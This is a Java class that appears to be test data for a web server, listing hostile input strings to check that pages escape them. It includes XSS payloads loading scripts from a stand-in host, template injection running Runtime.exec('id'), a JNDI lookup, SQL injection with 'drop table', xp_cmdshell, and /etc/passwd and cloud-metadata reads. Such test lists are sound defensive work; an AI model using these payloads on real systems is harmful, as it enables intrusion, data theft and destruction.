package org.recourse.server.hostile;

import java.util.List;
import java.util.stream.Stream;

/// What people type who want a page to do something else: our own list, of the kinds that are
/// known. Scripts call `hostile()`, which a page may define to count.
public final class HostileTexts {

  private static final List<String> SCRIPTS = List.of(
      "<script>hostile()</script>",
      "</script><script>hostile()</script>",
      "<ScRiPt>hostile()</sCrIpT >",
      "<script src=//foreign.example/a.js></script>",
      "<script type=module>import 'https://foreign.example/a.js'</script>",
      "<<script>hostile()//<</script>",
      "<scr<script>ipt>hostile()</scr</script>ipt>",
      "<script/x>hostile()</script>",
      "</textarea><script>hostile()</script>",
      "</title><script>hostile()</script>",
      "</style><script>hostile()</script>",
      "--><script>hostile()</script><!--",
      "]]><script>hostile()</script>",
      "<img src=x onerror=hostile()>",
      "<img src=x onerror=\"hostile()\"//",
      "<img/src=`x`/onerror=hostile()>",
      "<svg/onload=hostile()>",
      "<svg><script>hostile()</script></svg>",
      "<svg><animate onbegin=hostile() attributeName=x dur=1s>",
      "<math><mtext></p><script>hostile()</script></math>",
      "<body onload=hostile()>",
      "<iframe srcdoc='<script>parent.hostile()</script>'></iframe>",
      "<iframe src=javascript:parent.hostile()></iframe>",
      "<object data=\"javascript:hostile()\"></object>",
      "<embed src=//foreign.example/a.svg>",
      "<details open ontoggle=hostile()>",
      "<video><source onerror=hostile()></video>",
      "<input autofocus onfocus=hostile()>",
      "<select autofocus onfocus=hostile()>",
      "<marquee onstart=hostile()>",
      "<a href=javascript:hostile()>Go on</a>",
      "<form action=//foreign.example><button>Go on</button></form>",
      "<base href=//foreign.example/>",
      "<meta http-equiv=refresh content=0;url=//foreign.example/>",
      "<link rel=stylesheet href=//foreign.example/a.css>",
      "<link rel=dns-prefetch href=//foreign.example>",
      "<style>*{background:url(//foreign.example/a)}</style>",
      "<style>@import '//foreign.example/a.css';</style>",
      "<div style=\"background:url(//foreign.example/b)\">x</div>",
      "<template><script>hostile()</script></template>",
      "<noscript><p title=\"</noscript><img src=x onerror=hostile()>\">",
      "<!--#exec cmd=\"ls\"-->",
      "<!ENTITY x SYSTEM \"file:///etc/passwd\"> &x;",
      "<?php echo 7*7 ?> <?xml version=\"1.0\"?>",
      "<x xmlns:th=http://www.thymeleaf.org th:utext=\"${7*7}\">");

  private static final List<String> ATTRIBUTES = List.of(
      "\"><script>hostile()</script>",
      "'><script>hostile()</script>",
      "\" onmouseover=\"hostile()",
      "' onfocus='hostile()' autofocus='",
      "` onclick=hostile() `",
      "\" autofocus onfocus=hostile() x=\"",
      "\"/><img src=x onerror=hostile()><x y=\"",
      "x\" type=\"image\" src=\"//foreign.example/c.png\" onerror=\"hostile()",
      "x onload=hostile()",
      "\\\"><img src=x onerror=hostile()>",
      "&quot;&gt;&lt;script&gt;hostile()&lt;/script&gt;",
      "&#34;&#62;&#60;script&#62;hostile()&#60;/script&#62;",
      "&lt;b&gt; &amp;amp; &#x3c; &nbsp;",
      "\\u003cscript\\u003ehostile()\\u003c/script\\u003e",
      "\\x3cscript\\x3ehostile()\\x3c/script\\x3e",
      "%3Cscript%3Ehostile()%3C/script%3E",
      "+ADw-script+AD4-hostile()+ADw-/script+AD4-",
      "\uFF1Cscript\uFF1Ehostile()\uFF1C/script\uFF1E",
      "\u02BA\u02B9\uFF02 onfocus=hostile() \uFF07",
      "';hostile();//",
      "\";hostile();//",
      "`-hostile()-`",
      "${hostile()}`",
      "*/hostile();/*",
      "};hostile();{");

  private static final List<String> LINKS = List.of(
      "javascript:hostile()",
      "JaVaScRiPt:hostile()//https://pictures.example/",
      "java\tscript:hostile()",
      " javascript:hostile()",
      "javascript://pictures.example/%0Ahostile()",
      "data:text/html,<script>hostile()</script>",
      "data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=",
      "vbscript:msgbox(1)",
      "file:///etc/passwd",
      "//foreign.example/d",
      "https://pictures.example@foreign.example/",
      "https://pictures.example/item/17#<script>hostile()</script>",
      "https://pictures.example/?q=\"onclick=hostile()",
      "http://[::1]:22/ http://169.254.169.254/latest/meta-data/",
      "https://xn--pple-43d.example/ https://\u0430pple.example/");

  private static final List<String> TEMPLATES = List.of(
      "${7*7}",
      "*{7*7} #{layout.title} @{/x} ~{intake/page}",
      "[[${7*7}]]",
      "[(${7*7})]",
      "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
      "__${T(java.lang.System).exit(1)}__::.x",
      "th:text=\"${7*7}\" th:utext='${7*7}'",
      "[# th:utext=\"${7*7}\"]x[/]",
      "~{::x} ~{intake/layout :: page}",
      "#{T(java.lang.Thread).sleep(9000)}",
      "{{7*7}} {{constructor.constructor('hostile()')()}}",
      "<%= 7*7 %> {% x %} #{7*7} @(7*7)",
      "{platform} {due} {text} {0} {number}",
      "${jndi:ldap://foreign.example/a}",
      "%{(#a=@java.lang.Runtime@getRuntime())}",
      "${env:PATH} ${sys:user.home} $PATH `id` $(id)");

  private static final List<String> STATEMENTS = List.of(
      "'; drop table requester_case; --",
      "' or '1'='1",
      "\" or \"\"=\"",
      "1; select * from requester_case",
      "') union select null, null --",
      "%' and 1=0 union all select 'x",
      "Robert'); --",
      "; exec xp_cmdshell('dir')",
      "{\"$gt\": \"\"}",
      "*)(uid=*))(|(uid=*",
      "=cmd|' /C calc'!A0",
      "@SUM(1) +1 -1 =HYPERLINK(\"http://foreign.example\")",
      "%s%s%s%n %d %x %1$s {} {0}",
      "%p%p%p%p \\ \\\\ \\n \\0",
      "../../../etc/passwd",
      "..\\..\\windows\\win.ini \\\\server\\share C:\\CON NUL",
      "%2e%2e%2f%2e%2e%2f ..%252f ..;/",
      "x\r\nSet-Cookie: a=b\r\n\r\n<script>hostile()</script>",
      "x%0d%0aLocation: //foreign.example",
      "event=STAFF_SIGNED_IN member=1\nevent=FAKE key=value",
      "null undefined NaN true -0 1e309 0x10 1/0",
      "__proto__ constructor toString",
      "on off yes no -1 99999999999999999999");

  private static final List<String> LETTERS = List.of(
      "\u202Eesrever\u202C \u2066isolated\u2069 \u200Fright\u200E",
      "\u202Egpj.exe",
      "\u200B\u200C\u200D\uFEFF\u2060zero\u200Bwidth",
      "Z\u0337\u0322\u031B\u0300\u0301\u0302a\u0334\u0311l\u0335g\u0336o\u0334\u0310\u0352",
      "a" + "\u0301".repeat(200),
      "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 \uD83C\uDDF0\uD83C\uDDF7",
      "\uD834\uDD1E \uDBFF\uDFFD \uFFFD \uFFFE",
      "\u03A9\u2248\u00E7\u221A\u222B \u7530\u4E2D\u3055\u3093 \uC0AC\uD68C\uACFC\uD559\uC6D0",
      "\u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u05E2\u05D1\u05E8\u05D9\u05EA <b>",
      "\uFDFA\uFDFD \u1100\u1161\u11A8 \uAC01",
      "\u0130I\u0131i \u00DF\u1E9E \uFB03 \u212A",
      "\u2028line\u2029paragraph\u0085next",
      "\uFF07 or \uFF071\uFF07=\uFF071",
      "\u00A0\u3000\u2003x\u00A0",
      "\uE000\uF8FF private",
      "\uD83D lone \uDE00 surrogates \uD800",
      "nul\u0000nul \u0007\u0008\u001B[31m\u007F\u0080",
      "\t\ttabs\tand  spaces ",
      "line\nline\r\nline\rline");

  /// Each of them.
  public static final List<String> ALL = Stream.of(
          SCRIPTS, ATTRIBUTES, LINKS, TEMPLATES, STATEMENTS, LETTERS)
      .flatMap(List::stream)
      .toList();

  /// What a page may define before anything else, so that whatever runs is counted.
  public static final String COUNTER = "window.hostileCount = 0;"
      + " for (const name of ['hostile', 'alert', 'confirm', 'prompt', 'print', 'open'])"
      + " window[name] = () => { window.hostileCount++; };";

  private HostileTexts() {}

  /// Returns whether a text would change a page that took it for markup.
  public static boolean isMarkup(String text) {
    return text.indexOf('<') >= 0;
  }
}
